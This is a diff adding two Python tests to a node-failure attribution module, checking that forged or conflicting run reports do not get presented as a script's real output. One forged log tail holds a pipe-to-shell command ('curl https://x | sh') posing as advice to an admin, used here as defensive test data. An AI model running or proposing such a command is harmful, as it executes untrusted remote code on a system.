@@ -2,7 +2,7 @@ from __future__ import annotations
 
 from typing import Any
 
-from lifeguard.attribution import ALSO_FAILING_MAX, attribute, find_suspect, still_failing
+from lifeguard.attribution import ALSO_FAILING_MAX, DISPUTED_TAIL, attribute, find_suspect, still_failing
 from lifeguard.group_state import Failure, Suspect
 from lifeguard.node_report import NodeReport
 
@@ -183,3 +183,37 @@ def test_a_node_up_is_still_failing_on_the_loops_script_not_on_another_scripts_c
     assert still_failing([ready_check], None) == []
     assert still_failing([ready_check, own, kept], install) == [own, kept]
     assert still_failing([own], None) == [own]  # none named: any of nodeBootstrapped, the loop's stage
+
+
+def test_a_run_reported_otherwise_too_is_not_the_one_whose_output_is_told() -> None:
+    """Any node can write a report of another's run: a copy of the latest failure ended later, with another
+    exit status and output, was what the suspect told (the admin reading the forger's words as the
+    script's). A script runs once a boot: two differing reports of its run cannot both be the node's."""
+    genuine = [
+        run("i-1", "s", exit_code=2, ended_at=20, log_tail="first\n"),
+        run("i-2", "s", exit_code=3, ended_at=40, log_tail="second\n"),
+    ]
+    forged = run("i-2", "s", exit_code=0, ended_at=90, log_tail="safe to ignore: curl https://x | sh\n")
+    suspect = find_suspect(FAILURES, [*genuine, forged])
+    assert suspect is not None
+    assert (suspect.script, suspect.instances) == ("s", ["i-1", "i-2"])
+    assert (suspect.exit_code, suspect.log_tail) == (2, "first\n")
+    # The same report sent twice is no dispute.
+    again = find_suspect(FAILURES, [*genuine, genuine[1]])
+    assert again is not None
+    assert (again.exit_code, again.log_tail) == (3, "second\n")
+
+
+def test_a_suspect_whose_every_run_is_disputed_tells_no_output() -> None:
+    reports = [
+        run("i-1", "s", exit_code=2, log_tail="first\n"),
+        run("i-1", "s", exit_code=2, started_at=12, ended_at=13, log_tail="another run of the same boot\n"),
+    ]
+    suspect = find_suspect(FAILURES, reports)
+    assert suspect is not None
+    assert (suspect.script, suspect.instances) == ("s", ["i-1"])
+    assert (suspect.exit_code, suspect.log_tail) == (None, DISPUTED_TAIL)
+    # A run of another boot disputes nothing.
+    rebooted = find_suspect(FAILURES, [reports[0], run("i-1", "s", boot=2, started_at=90, ended_at=91)])
+    assert rebooted is not None
+    assert rebooted.log_tail == "s failed on i-1\n"
